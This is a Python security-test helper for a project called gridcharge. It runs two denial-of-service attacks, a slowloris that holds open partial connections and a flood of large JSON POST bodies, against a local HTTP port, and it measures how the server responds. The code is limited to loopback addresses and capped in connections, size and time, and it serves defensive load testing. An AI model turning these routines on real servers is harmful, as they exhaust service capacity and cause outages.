"""HTTP attacks on a local gridcharge HTTP port, for tests/security/test_control_plane.py (run as a separate process,
so the attack's own CPU use does not distort the test's latency measurement). Loopback only, bounded in count and
time; prints one JSON object with what happened.

    python tests/security/attacker.py slowloris --port P --sources 127.0.0.2 --conns 300 --hold 12
    python tests/security/attacker.py body-flood --port P --token T --mib 59 --parallel 4 --rounds 5 [--chunked]
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import ipaddress
import json
import socket
import sys
import time
from typing import Any

LOOPBACK = ipaddress.ip_network("127.0.0.0/8")


async def _connect(host: str, port: int, source: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection(host, port, local_addr=(source, 0))


async def slowloris(host: str, port: int, sources: list[str], conns: int, hold_s: float) -> dict[str, Any]:
    """Open `conns` connections, send half a request on each and trickle one header byte per second."""
    t0 = time.monotonic()
    results: list[dict[str, Any]] = []

    async def one(i: int) -> None:
        out: dict[str, Any] = {"source": sources[i % len(sources)]}
        results.append(out)
        try:
            reader, writer = await _connect(host, port, out["source"])
        except OSError as exc:
            out["outcome"] = f"connect failed: {exc.strerror}"
            return
        try:
            writer.write(b"GET /healthz HTTP/1.1\r\nhost: x\r\nx-a: ")
            await writer.drain()
            first = asyncio.ensure_future(reader.read(64))
            while time.monotonic() - t0 < hold_s and not first.done():
                await asyncio.wait({first}, timeout=1.0)
                if not first.done():
                    with contextlib.suppress(OSError):
                        writer.write(b"a")
            if first.done():
                data = first.result() if not first.exception() else b""
                out["outcome"] = data[:12].decode(errors="replace") or "closed"
                out["after_s"] = round(time.monotonic() - t0, 2)
            else:
                first.cancel()
                out["outcome"] = "still open"
        except OSError as exc:
            out["outcome"] = f"reset ({exc.strerror})"
            out["after_s"] = round(time.monotonic() - t0, 2)
        finally:
            writer.close()

    await asyncio.gather(*(one(i) for i in range(conns)))
    counts: dict[str, int] = {}
    for r in results:
        counts[r["outcome"]] = counts.get(r["outcome"], 0) + 1
    closed_after = [r["after_s"] for r in results if "after_s" in r and r["outcome"].endswith("408")]
    return {
        "attack": "slowloris",
        "conns": conns,
        "outcomes": counts,
        "max_408_after_s": max(closed_after, default=None),
        "seconds": round(time.monotonic() - t0, 2),
    }


async def body_flood(
    host: str, port: int, token: str, mib: int, parallel: int, rounds: int, chunked: bool, path: str, seconds: float
) -> dict[str, Any]:
    """POST `mib` MiB of JSON on `parallel` connections, `rounds` times or for `seconds` (whichever is longer);
    record the statuses and the bytes written (into the socket: the kernel takes some before the answer)."""
    t0 = time.monotonic()
    statuses: dict[str, int] = {}
    sent_total = 0
    piece = b"[" + b"1," * (512 * 1024 - 1) + b"1]"  # 1 MiB of JSON array per piece

    async def one() -> None:
        nonlocal sent_total
        reader, writer = await asyncio.open_connection(host, port)
        size = mib * len(piece)
        head = (
            f"POST {path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\n"
            "content-type: application/json\r\n"
            + ("transfer-encoding: chunked\r\n" if chunked else f"content-length: {size}\r\n")
            + "\r\n"
        )
        answer = asyncio.ensure_future(reader.read(256))
        sent = 0
        try:
            writer.write(head.encode())
            for _ in range(mib):
                if answer.done():
                    break
                writer.write((f"{len(piece):x}\r\n".encode() + piece + b"\r\n") if chunked else piece)
                await writer.drain()
                sent += len(piece)
                await asyncio.sleep(0)
            if chunked and not answer.done():
                writer.write(b"0\r\n\r\n")
            data = await asyncio.wait_for(answer, 30)
        except (OSError, TimeoutError):
            data = answer.result() if answer.done() and not answer.exception() else b""
        finally:
            writer.close()
        status = data[9:12].decode(errors="replace") or "none"
        statuses[status] = statuses.get(status, 0) + 1
        sent_total += sent

    done = 0
    while done < rounds or (time.monotonic() - t0 < seconds and done < 10_000):
        await asyncio.gather(*(one() for _ in range(parallel)))
        done += 1
    return {
        "attack": "body-flood",
        "mib": mib,
        "chunked": chunked,
        "requests": parallel * done,
        "statuses": statuses,
        "mib_sent": round(sent_total / 2**20, 1),
        "seconds": round(time.monotonic() - t0, 2),
    }


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="attack", required=True)
    s = sub.add_parser("slowloris")
    s.add_argument("--port", type=int, required=True)
    s.add_argument("--sources", default="127.0.0.2", help="comma-separated loopback source addresses")
    s.add_argument("--conns", type=int, default=300)
    s.add_argument("--hold", type=float, default=12.0)
    b = sub.add_parser("body-flood")
    b.add_argument("--port", type=int, required=True)
    b.add_argument("--token", default="")
    b.add_argument("--mib", type=int, default=59)
    b.add_argument("--parallel", type=int, default=4)
    b.add_argument("--rounds", type=int, default=5)
    b.add_argument("--seconds", type=float, default=0.0, help="keep going for this long (at most 60 s)")
    b.add_argument("--chunked", action="store_true")
    b.add_argument("--path", default="/api/v1/meter-readings")
    args = p.parse_args(argv)
    if args.attack == "slowloris":
        sources = args.sources.split(",")
        if not all(ipaddress.ip_address(a) in LOOPBACK for a in sources) or args.conns > 2000 or args.hold > 120:
            p.error("loopback sources only, at most 2000 connections and 120 s")
        result = asyncio.run(slowloris("127.0.0.1", args.port, sources, args.conns, args.hold))
    else:
        if args.mib * args.parallel * args.rounds > 4096 or args.seconds > 60 or args.parallel > 64:
            p.error("at most 4 GiB of rounds, 64 connections and 60 s")
        result = asyncio.run(
            body_flood(
                "127.0.0.1",
                args.port,
                args.token,
                args.mib,
                args.parallel,
                args.rounds,
                args.chunked,
                args.path,
                args.seconds,
            )
        )
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    socket.setdefaulttimeout(30)
    sys.exit(main())
